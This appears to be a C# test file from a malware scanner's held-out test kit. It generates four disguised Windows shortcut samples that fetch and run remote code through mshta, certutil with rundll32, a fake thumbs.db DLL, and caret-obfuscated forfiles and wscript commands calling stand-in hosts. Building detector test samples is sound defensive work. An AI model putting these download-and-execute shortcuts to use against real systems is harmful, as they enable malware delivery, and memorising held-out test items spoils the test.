namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Shortcuts that start what they fetch or carry through another program of Windows.</summary>
public sealed class ShortcutProxies : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Tax return 2025.pdf.lnk", new LinkBuilder().To("C:\\Windows\\System32\\mshta.exe").With("http://revenue-office.example/forms/return.hta").Icon("%ProgramFiles(x86)%\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe").From("laptop-8831").Build());
        yield return ("Documents.lnk", new LinkBuilder().To("C:\\Windows\\System32\\cmd.exe").With("/c start . & certutil.exe -urlcache -split -f http://192.0.2.140/d.dll %TEMP%\\d.dll & rundll32.exe %TEMP%\\d.dll,#1").Icon("%SystemRoot%\\System32\\shell32.dll").Build());
        yield return ("Attachments.lnk", new LinkBuilder().To("C:\\Windows\\System32\\rundll32.exe").With("scan\\~$thumbs.db,vcab /k chalaza762").Icon("C:\\Windows\\System32\\imageres.dll").Build());
        yield return ("Agreement.lnk", new LinkBuilder().To("C:\\Windows\\System32\\forfiles.exe").With("/p C:\\Windows\\System32 /m notepad.exe /c \"cmd /c cop^y \\\\files-agree@80\\w\\a.txt %APPDATA%\\a.js & ws^cript //e:js^cript %APPDATA%\\a.js & ex^plorer https://example.com/a.pdf\"").Icon("C:\\Windows\\System32\\wordpad.exe").Build());
    }
}
